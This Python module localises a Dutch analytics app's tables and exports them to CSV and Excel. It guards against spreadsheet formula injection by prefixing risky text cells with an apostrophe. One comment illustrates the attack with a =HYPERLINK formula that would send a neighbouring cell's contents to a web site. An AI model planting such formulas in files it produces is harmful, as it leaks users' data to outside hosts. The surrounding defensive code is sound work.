"""Netwerk's tables as people read them: headers and the model's values in the session's
language, every cell as text (7,5 / 7.5), and the CSV and Excel files, in which no cell can
start a formula."""

from __future__ import annotations

import io

import pandas as pd

from hgs.analytics.network import GIVER_NAMES, TEXT_KINDS
from hgs.i18n import Labels, language, t, using
from hgs.method import texts
from hgs.method.checks import CHECK_TITLES


def _cell(value) -> str:
    if isinstance(value, bool):
        return t("netwerk.ja") if value else t("netwerk.nee")
    if isinstance(value, (int, float)) and not pd.isna(value):
        if float(value).is_integer():
            return f"{value:.0f}"
        return f"{value:.1f}".replace(".", ",") if language() == "nl" else f"{value:.1f}"
    return "" if value is None or (isinstance(value, float) and pd.isna(value)) else str(value)


# The frames' columns keep their Dutch names (the code looks them up; in Dutch they are the
# headers); the screen and the exports show them in the session's language ([netwerk.kolommen]).
COLUMNS = Labels("netwerk.kolommen", (
    "casussen", "MDO's", "ouders aanwezig (%)", "stem van het kind (%)", "deelnemers (mediaan)",
    "onderzoek gevraagd (%)", "rapportcijfer (gemiddeld)", "periode", "sector", "organisatie",
    "afspraken verlopen", "gedaan (%)", "doelen", "vooruit (%)", "doel bereikt (%)", "T-score",
    "soort", "groep", "aantal", "thema", "behoefte (thema)", "organisaties", "uitgangspunt",
    "tops", "tips", "werkwijze", "gaat goed (%)", "top of tip",
))
# Values of the model in a table's cells, per column, in the session's language.
CELL_WORDS = {"sector": texts.SECTORS, "soort": TEXT_KINDS, "groep": GIVER_NAMES}


def column_name(column: str) -> str:
    """A column's (or measure's) name on screen: "gedaan (%)" / "done (%)"; a check's column
    is its title: "Ouders aan tafel (%)" / "Parents at the table (%)"."""
    if column in CHECK_TITLES:
        return t("netwerk.werkwijze.kolom", title=CHECK_TITLES[column])
    return COLUMNS.get(column, column)


def display_names(table: pd.DataFrame) -> pd.DataFrame:
    """The same table with its column headers in the session's language."""
    return table.rename(columns=column_name)


def table_title(group: str) -> str:
    """ "MDO per periode" / "MDOs per period": the heading of a meeting table on screen."""
    return t("netwerk.tabellen.mdo_per", group=column_name(group))


def localised(table: pd.DataFrame) -> pd.DataFrame:
    """The same table with the model's values in its cells (sector, top or tip, who gave it)
    in the session's language; in Dutch they stay as they are."""
    words = {column: labels for column, labels in CELL_WORDS.items() if column in table}
    if not words or table.empty:
        return table
    return table.assign(**{column: table[column].map(lambda v, labels=labels: labels.get(v, v))
                           for column, labels in words.items()})


def display(table: pd.DataFrame) -> pd.DataFrame:
    """Every cell as text in the session's language (7,5 / 7.5; "< 5" stays): one type per
    column for screens and CSV files."""
    return localised(table).apply(lambda column: column.map(_cell)) if not table.empty else table


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# injection"): an organisation named =HYPERLINK("https://…"&A2, "…") would send the
# neighbouring cell to a web site. Such a text cell gets a leading apostrophe, in the CSV and
# in the Excel file alike; numbers are not text and stay numbers, negative ones too.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defused(value):
    """A text cell a spreadsheet would take for a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _defused(table: pd.DataFrame) -> pd.DataFrame:
    """The table with every text cell and header `defused`; numbers untouched."""
    return table.rename(columns=defused).apply(lambda column: column.map(defused)) \
        if not table.empty else table.rename(columns=defused)


def to_csv(table: pd.DataFrame, lang: str | None = None) -> bytes:
    """With a byte-order mark, so it opens as-is in Excel. Dutch: semicolons and decimal commas,
    Dutch headers; English: commas and decimal points, English headers. `lang` defaults to the
    session's (a download button made later, outside the session, passes it). No cell starts
    a formula (`defused`)."""
    with using(lang or language()):
        # defused before the numbers become text: "-3" from a number stays -3; a carriage
        # return inside a cell as a line break, which the writer quotes (it does not quote \r)
        cells = display(_defused(table)).replace("\r\n?", "\n", regex=True)
        text = display_names(cells).to_csv(index=False, sep=";" if language() == "nl" else ",")
    return text.encode("utf-8-sig")


def to_excel(tables: dict[str, pd.DataFrame], lang: str | None = None) -> bytes:
    """One sheet per table, its name and headers in `lang` (default: the session's); no cell is
    a formula (`defused`: openpyxl writes a text that starts with = as one)."""
    buffer = io.BytesIO()
    with using(lang or language()), pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, table in tables.items():
            _defused(display_names(localised(table))).to_excel(
                writer, sheet_name=SHEETS.get(name, name)[:31], index=False)
    return buffer.getvalue()


# The page's tables by their (Dutch) sheet names; SHEETS gives the names in the session's language
SHEETS = Labels("netwerk.bladen", (
    "MDO per periode", "MDO per sector", "MDO per organisatie", "Afspraken", "Doelen per sector",
    "T-scores", "Tops en tips", "Thema's tops", "Thema's tips", "Behoeften per organisatie",
    "Behoeften netwerk", "Uitgangspunten", "Werkwijze", "Werkwijze per organisatie",
))
